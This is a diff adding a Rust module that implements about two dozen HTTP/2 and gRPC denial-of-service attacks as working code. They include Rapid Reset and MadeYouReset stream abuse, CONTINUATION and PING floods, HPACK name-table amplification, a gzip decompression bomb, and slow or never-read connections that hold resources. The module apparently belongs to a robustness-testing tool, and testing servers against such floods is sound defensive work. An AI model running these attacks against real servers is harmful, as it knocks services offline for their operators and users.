@@ -1,0 +1,261 @@
+//! The ways to attack.
+
+use clap::ValueEnum;
+use thalweg::http2::frame::{Flags, Kind, Setting};
+
+use super::frames::Frames;
+
+/// A way to attack.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
+pub(crate) enum Class {
+    /// PINGs, which want to be answered
+    Ping,
+    /// SETTINGS, which want to be acknowledged
+    Settings,
+    /// Acknowledgements of SETTINGS that nobody has sent
+    SettingsAcks,
+    /// SETTINGS are never acknowledged, while calls are made
+    NeverAcks,
+    /// PRIORITY
+    Priority,
+    /// Frames of a type that there is not
+    Unknown,
+    /// WINDOW_UPDATEs of one byte
+    WindowUpdates,
+    /// Empty DATA
+    EmptyData,
+    /// DATA of one byte
+    TinyData,
+    /// A header block that never ends
+    Continuation,
+    /// Streams that are opened and reset at once (CVE-2023-44487)
+    RapidReset,
+    /// Streams that the server is made to reset (CVE-2025-8671)
+    MadeYouReset,
+    /// More streams than there may be, none of which ends
+    Refused,
+    /// CONNECT requests
+    Connect,
+    /// Large header blocks on a stream that was reset
+    BlocksOnReset,
+    /// Large header blocks on a stream that ended long ago
+    BlocksOnForgotten,
+    /// Fields of two octets that name an entry of 4 KB
+    NameCopies,
+    /// Header lists that are too large
+    LargeLists,
+    /// Messages that become a thousand times as large when decompressed
+    GzipBomb,
+    /// Messages of gzip members that are all empty
+    GzipMembers,
+    /// Requests of which one byte is missing, on as many streams as there may be
+    Unfinished,
+    /// Large answers that nobody reads: the window is 0
+    Unread,
+    /// Half a header block
+    HalfBlock,
+    /// Connections that shake hands and then do nothing
+    Idle,
+    /// Requests that come a byte at a time
+    SlowRequest,
+    /// Calls whose answers are not read off the socket
+    SlowReader,
+}
+
+/// What an attacker does.
+pub(crate) enum Work {
+    /// On one connection, as much as it takes.
+    Flood { settings: &'static [Setting], acks: bool, first: fn(&mut Frames), round: fn(&mut Frames, u64) },
+    /// On some connections something, and a little more ten times a second.
+    Hold { settings: &'static [Setting], reads: bool, first: fn(&mut Frames), drip: fn(&mut Frames) },
+}
+
+/// A head that is all there is to a request.
+const WHOLE: Flags = Flags::END_HEADERS.with_if(true, Flags::END_STREAM);
+const NOTHING: fn(&mut Frames) = |_| {};
+/// So many streams a server permits at least, as RFC 9113 §6.5.2 recommends.
+const STREAMS: usize = 100;
+/// The most that a frame may have before the server has said otherwise.
+const FRAME_LEN: usize = 16 << 10;
+/// `:method: GET`, indexed.
+const GET: u8 = 0x82;
+
+fn flood(first: fn(&mut Frames), round: fn(&mut Frames, u64)) -> Work {
+    Work::Flood { settings: &[], acks: true, first, round }
+}
+
+fn hold(first: fn(&mut Frames), drip: fn(&mut Frames)) -> Work {
+    Work::Hold { settings: &[], reads: true, first, drip }
+}
+
+impl Class {
+    pub(crate) fn work(self) -> Work {
+        match self {
+            Self::Ping => flood(NOTHING, |it, _| it.ping()),
+            Self::Settings => flood(NOTHING, |it, _| it.settings(&[])),
+            Self::SettingsAcks => flood(NOTHING, |it, _| it.settings_ack()),
+            Self::NeverAcks => Work::Flood {
+                settings: &[],
+                acks: false,
+                first: NOTHING,
+                round: |it, _| it.unary(&[], false, b""),
+            },
+            Self::Priority => flood(NOTHING, |it, _| it.frame(Kind::Priority, Flags::NONE, 1, &[0; 5])),
+            Self::Unknown => flood(NOTHING, |it, _| it.frame(Kind::Unknown(99), Flags::NONE, 0, b"")),
+            Self::WindowUpdates => flood(call, |it, number| match number {
+                // It must not grow beyond 2³¹ - 1.
+                0..2_000_000_000 => it.window_update(1, 1),
+                _ => it.window_update(0, 1),
+            }),
+            Self::EmptyData => flood(call, |it, _| it.data(1, false, b"")),
+            Self::TinyData => flood(
+                |it| {
+                    call(it);
+                    // A message of 4 MiB to come.
+                    it.data(1, false, &[0, 0, 0x40, 0, 0]);
+                },
+                |it, _| it.data(1, false, b"x"),
+            ),
+            Self::Continuation => flood(
+                |it| {
+                    let stream = it.stream();
+                    it.frame(Kind::Headers, Flags::NONE, stream, &[GET]);
+                },
+                |it, _| it.frame(Kind::Continuation, Flags::NONE, 1, &[GET]),
+            ),
+            Self::RapidReset => flood(NOTHING, |it, _| {
+                let stream = it.call("UnaryCall");
+                it.reset(stream);
+            }),
+            Self::MadeYouReset => flood(NOTHING, |it, _| {
+                let stream = it.call("UnaryCall");
+                it.window_update(stream, 0);
+            }),
+            Self::Refused => flood(NOTHING, |it, _| {
+                it.call("StreamingCall");
+            }),
+            Self::Connect => flood(NOTHING, |it, _| {
+                let stream = it.stream();
+                // `:method: CONNECT` and `:authority: a`, literals.
+                let block = [&[0x02, 7][..], b"CONNECT", &[0x01, 1], b"a"].concat();
+                it.frame(Kind::Headers, Flags::END_HEADERS, stream, &block);
+            }),
+            Self::BlocksOnReset => flood(
+                |it| {
+                    let stream = it.call("UnaryCall");
+                    it.reset(stream);
+                },
+                |it, _| it.frame(Kind::Headers, Flags::END_HEADERS, 1, &[GET; FRAME_LEN]),
+            ),
+            Self::BlocksOnForgotten => flood(
+                |it| {
+                    for _ in 0..64 {
+                        let stream = it.call("UnaryCall");
+                        it.reset(stream);
+                    }
+                },
+                |it, _| it.frame(Kind::Headers, Flags::END_HEADERS, 3, &[GET; FRAME_LEN]),
+            ),
+            Self::NameCopies => flood(
+                |it| {
+                    // A name of 4,000 bytes enters the table.
+                    let block = [&[0x40, 0x7f, 0xa1, 0x1e][..], &[b'a'; 4000], &[0]].concat();
+                    let stream = it.stream();
+                    it.frame(Kind::Headers, WHOLE, stream, &block);
+                },
+                |it, _| {
+                    // It is named again and again, with an empty value.
+                    let stream = it.stream();
+                    let block = [0x7e, 0].repeat(FRAME_LEN / 2);
+                    it.frame(Kind::Headers, WHOLE, stream, &block);
+                },
+            ),
+            Self::LargeLists => flood(NOTHING, |it, _| {
+                let stream = it.stream();
+                it.frame(Kind::Headers, WHOLE, stream, &[GET; FRAME_LEN]);
+            }),
+            Self::GzipBomb => flood(NOTHING, |it, _| it.unary(&[("grpc-encoding", "gzip")], true, &bomb())),
+            Self::GzipMembers => flood(NOTHING, |it, _| {
+                let members = EMPTY_MEMBER.repeat((4 << 20) / EMPTY_MEMBER.len() - 1);
+                it.unary(&[("grpc-encoding", "gzip")], true, &members);
+            }),
+            Self::Unfinished => hold(
+                |it| {
+                    for _ in 0..STREAMS {
+                        let stream = it.call("UnaryCall");
+                        // All but the last byte of a message of 4 MiB, as far as the windows go.
+                        it.data(stream, false, &[0, 0, 0x40, 0, 0]);
+                        for _ in 0..4 {
+                            it.data(stream, false, &[0; 15_000]);
+                        }
+                    }
+                },
+                NOTHING,
+            ),
+            Self::Unread => Work::Hold {
+                settings: &[Setting::InitialWindowSize(0)],
+                reads: true,
+                first: |it| {
+                    for _ in 0..STREAMS {
+                        // SimpleRequest { response_size: 4 MiB - 64 }
+                        it.unary(&[], false, &[0x10, 0xc0, 0xff, 0xff, 0x01]);
+                    }
+                },
+                drip: NOTHING,
+            },
+            Self::HalfBlock => hold(
+                |it| {
+                    let stream = it.stream();
+                    it.frame(Kind::Headers, Flags::NONE, stream, &[GET; FRAME_LEN]);
+                    for _ in 0..7 {
+                        it.frame(Kind::Continuation, Flags::NONE, stream, &[GET; FRAME_LEN]);
+                    }
+                },
+                NOTHING,
+            ),
+            Self::Idle => hold(NOTHING, NOTHING),
+            Self::SlowRequest => hold(
+                |it| {
+                    call(it);
+                    it.data(1, false, &[0, 0, 0, 0xff, 0xff]);
+                },
+                |it| {
+                    it.data(1, false, b"x");
+                    it.is_urgent = true;
+                },
+            ),
+            Self::SlowReader => Work::Hold {
+                settings: &[Setting::InitialWindowSize(i32::MAX as u32)],
+                reads: false,
+                first: |it| {
+                    it.window_update(0, i32::MAX as u32 - 65_535);
+                    for _ in 0..STREAMS {
+                        it.unary(&[], false, &[0x10, 0xc0, 0xff, 0xff, 0x01]);
+                    }
+                },
+                drip: NOTHING,
+            },
+        }
+    }
+}
+
+/// A call that takes a stream of messages, on the first stream.
+fn call(frames: &mut Frames) {
+    frames.call("StreamingFromClient");
+}
+
+/// A gzip member of nothing.
+const EMPTY_MEMBER: [u8; 20] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0];
+
+/// A gzip member of many zeros: a stored head, then one code that repeats 258 bytes as often as there are bits.
+fn bomb() -> Vec<u8> {
+    use std::sync::OnceLock;
+    static BOMB: OnceLock<Vec<u8>> = OnceLock::new();
+    BOMB.get_or_init(|| {
+        use std::io::Write;
+        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+        encoder.write_all(&vec![0; 256 << 20]).expect("a Vec takes all");
+        encoder.finish().expect("a Vec takes all")
+    })
+    .clone()
+}
